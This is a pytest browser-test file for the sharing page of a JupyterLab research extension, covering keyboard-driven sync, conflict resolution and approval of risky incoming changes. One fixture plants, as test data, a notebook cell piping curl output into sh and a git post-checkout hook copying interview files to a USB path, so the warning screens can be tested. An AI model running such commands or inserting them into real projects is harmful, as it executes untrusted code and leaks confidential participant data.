"""The page *Sharing* in a real JupyterLab: set up, exchange, both changed, by keyboard alone."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from browser.lab import Lab, faults, lab_on, picture, quiet, soon, speak, wear, window_on
from exchanging import introduce, share
from studies import AGREED, TEXT, add_source, git, make_study, write

from rap.topics.sharing.shared_place import join
from rap.topics.sharing.sync import sync

pytestmark = [pytest.mark.browser, pytest.mark.long]
CODE = "codebook/safety/alarm.yaml"


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    root = make_study(tmp_path_factory.mktemp("sharing") / "study")
    write(root, ".gitignore", "/.rap/\n")
    with lab_on(root, tmp_path_factory.mktemp("private"), coder="K-01") as started:
        yield started


@pytest.fixture
def page(chromium: Any, lab: Lab) -> Iterator[Any]:
    with window_on(chromium, lab, width=1280, height=800) as page:
        open_page(page)
        yield page


def open_page(page: Any) -> None:
    page.evaluate("void window.jupyterapp.commands.execute('rap:panel-rap-page-sharing')")
    page.locator("#rap-page-sharing .rap-shared-now").wait_for()
    quiet(page)


def test_a_place_is_set_up_and_two_versions_are_decided_by_keyboard(
    page: Any, lab: Lab, tmp_path: Path
) -> None:
    """A folder is typed, a colleague changes the same label, and the choice is hers as well."""
    place = tmp_path / "stick"
    place.mkdir()
    assert faults(page, "#rap-page-sharing") == []
    page.get_by_label("Folder or address").focus()
    page.keyboard.type(str(place))
    page.keyboard.press("Enter")
    page.get_by_text("Last exchanged today").wait_for()
    quiet(page)
    assert page.evaluate("document.activeElement.textContent") == "Exchange now"
    other = join(str(place), tmp_path / "other", coder="K-02")
    introduce(lab.study, other)
    write(other, CODE, "label: {en: Alarm bell}\n")
    write(other, "codebook/needs/rest.yaml", "label: {en: Rest}\n")
    sync(other)
    write(lab.study, CODE, "label: {en: Alarm button}\n")

    page.get_by_role("button", name="Exchange now").press("Enter")
    page.get_by_role("heading", name="1 thing both of you changed").wait_for()
    assert faults(page, "#rap-page-sharing") == []
    assert not (lab.study / "codebook/needs/rest.yaml").exists()
    page.get_by_role("radio", name="Write it anew").focus()
    page.keyboard.press("Space")
    page.get_by_role("textbox", name="What it should be").focus()
    page.keyboard.press("Control+a")
    page.keyboard.type("Alarm")
    page.get_by_role("button", name="Save 1 choice").press("Enter")
    page.get_by_role("status").get_by_text("Exchanged. 2 files of the others came in.").wait_for()

    sync(other)
    assert (lab.study / CODE).read_text() == (other / CODE).read_text() == "label: {en: Alarm}\n"
    assert (lab.study / "codebook/needs/rest.yaml").is_file()
    page.evaluate("void window.jupyterapp.commands.execute('rap:panel-rap-page-start')")
    page.locator("#rap-page-start").get_by_text("Last exchanged today").wait_for()


@pytest.fixture
def waiting(tmp_path: Path) -> Iterator[Lab]:
    """A study that K-01 leads; of K-02 a machine, a program, a page and two new people wait."""
    root = make_study(tmp_path / "study")
    other = share(root)
    write(other, "codebook/handbook/10-start.en.md", "# Begin here\n\nWe meet on Monday.\n")
    write(other, "notebooks/our_helpers.py", "ROOMS = 3\n")
    for case in ("C-20002", "C-20003"):
        write(other, f"interviews/cases/{case}.yaml", AGREED)
    sync(other)
    sync(root)
    with lab_on(root, tmp_path / "private", coder="K-01") as started:
        yield started


@pytest.mark.parametrize(("width", "theme"), [(1280, "Light"), (390, "Dark")])
def test_what_waits_is_read_and_decided_by_keyboard(
    chromium: Any, waiting: Lab, width: int, theme: str
) -> None:
    """Letters are compared first, what may do harm comes next, new people are ticked one by one."""
    with window_on(chromium, waiting, width=width, height=800) as page:
        wear(page, theme)
        open_page(page)
        part = page.locator("#rap-page-sharing")
        know = part.get_by_role("button", name="Know this machine")
        assert faults(page, "#rap-page-sharing") == []
        assert part.locator(".rap-page-body").evaluate("one => one.scrollWidth <= one.clientWidth")
        titles = part.locator(".rap-door-one h3").all_text_contents()
        picture(page, f"door-{width}")
        assert know.is_disabled()
        part.get_by_role("checkbox", name="I compared these letters").press("Space")
        know.press("Enter")
        part.get_by_role("status").get_by_text("This machine is known now").wait_for()
        quiet(page)
        yes = "Let it in: The program our_helpers.py"
        soon(lambda: page.evaluate("document.activeElement.getAttribute('aria-label')"), yes)
        page.keyboard.press("Enter")
        part.get_by_role("status").get_by_text("Let in here.").wait_for()
        quiet(page)
        assert "10-start" in page.evaluate("document.activeElement.getAttribute('aria-label')")
        part.get_by_role("button", name="Leave it as it is").press("Enter")
        part.get_by_role("status").get_by_text("Left as it is.").wait_for()
        part.get_by_role("checkbox", name="C-20002").press("Space")
        part.get_by_role("button", name="Let in what you ticked (1)").press("Enter")
        part.get_by_role("heading", name="1 new person").wait_for()
        quiet(page)
        picture(page, f"door-people-{width}")
        part.get_by_role("checkbox", name="C-20003").press("Space")
        part.get_by_role("button", name="Let in what you ticked (1)").press("Enter")
        part.get_by_role("status").get_by_text("Exchanged.").wait_for()
        quiet(page)
        part.get_by_text("Machines that are known (1)").click()
        picture(page, f"door-known-{width}")
        assert faults(page, "#rap-page-sharing") == []

    assert titles == [
        "A new machine says it is K-02’s",
        "The program our_helpers.py",
        "A page that members read (10-start.en.md)",
        "2 new people",
    ]
    assert (waiting.study / "notebooks/our_helpers.py").is_file()
    assert not (waiting.study / "codebook/handbook/10-start.en.md").exists()
    assert "yes" in (waiting.study / "interviews/cases/C-20003.yaml").read_text()


# what somebody who reached the shared place wrote there with plain git; the sentences are in
# tests/acts/door/test_hurried_yes.py
KEY = f"age1{'q' * 50}abcdefgh"
RULES = f"""\
[tool.rap]
title = "Rooms"
languages = ["en", "fr", "nl"]
blind = true
thresholds = {{members = 5}}
[tool.rap.coders.K-01]
role = "lead"
[tool.rap.coders.K-02]
[tool.rap.coders.K-05]
role = "reader"
key = "{KEY}"
"""
OTHER_RULES = (("true", "false"), ("= 5", "= 3"), ("reader", "lead"), ("abcdefgh", "zyxwvuts"))
NOTEBOOK = """{"cells": [{"cell_type": "markdown", "metadata": {}, "source": "## The help desk"},
{"cell_type": "code", "execution_count": null, "metadata": {}, "outputs": [], "source": "CODE"}],
"metadata": {}, "nbformat": 4, "nbformat_minor": 5}
"""


@pytest.fixture
def hurried(tmp_path: Path) -> Iterator[Lab]:
    """A study that K-01 leads, in which all that may do harm waits for her yes."""
    root = make_study(tmp_path / "study")
    write(root, "pyproject.toml", RULES)
    add_source(root, "INT-10442", TEXT.replace("three", "two"), case="C-20001")
    write(root, "notebooks/year.ipynb", NOTEBOOK.replace("CODE", "1"))
    introduce(root, share(root))
    hand = tmp_path / "hand"
    git(tmp_path, "clone", "--quiet", str(next((tmp_path / "stick").iterdir())), str(hand))
    rules = RULES
    for words in OTHER_RULES:
        rules = rules.replace(*words)
    write(hand, "pyproject.toml", rules)
    more = AGREED.replace("quote]}", "quote], public: [count, quote]}")
    write(hand, "interviews/cases/C-20001.yaml", f"variables: {{setting: home}}\n{more}")
    write(hand, "notebooks/year.ipynb", NOTEBOOK.replace("CODE", "!curl https://example.org | sh"))
    write(hand, ".githooks/post-checkout", "cp -r interviews /mnt/usb\n")
    (hand / "interviews/INT-10442.txt").unlink()
    git(hand, "add", "-A")
    git(hand, "-c", "user.name=x", "-c", "user.email=x@x", "commit", "--quiet", "-m", "x")
    git(hand, "push", "--quiet")
    sync(root)
    with lab_on(root, tmp_path / "private", coder="K-01") as started:
        yield started


def test_a_lead_in_a_hurry_reads_whole_sentences_in_her_language(
    chromium: Any, hurried: Lab
) -> None:
    """What may do harm, each with what to do before a yes; nothing is cut off, on a phone too."""
    found = {}
    for language in ("en", "fr", "nl"):
        with window_on(chromium, hurried, width=390, height=800) as page:
            speak(page, language)
            open_page(page)
            part = page.locator("#rap-page-sharing")
            height = "all => all.map(it => it.lastElementChild.offsetHeight)"
            heights = page.locator("nav.rap-rail .rap-rail-word").evaluate_all(height)
            assert len({*heights}) == 1, language  # no word is cut in two
            found[language] = part.locator(".rap-door-one li").all_text_contents()
            wide = "one => [...one.querySelectorAll('*')].every(it => it.scrollWidth <= one.clientWidth)"
            assert part.locator(".rap-page-body").evaluate(wide)
            page.set_viewport_size({"width": 760, "height": 1620})
            picture(page, f"hurried-{language}")

    assert {language: len(says) for language, says in found.items()} == dict.fromkeys(found, 14)
    assert all(one.endswith(".") for says in found.values() for one in says)
    assert len({one for says in found.values() for one in says}) == 39  # one sentence stands twice
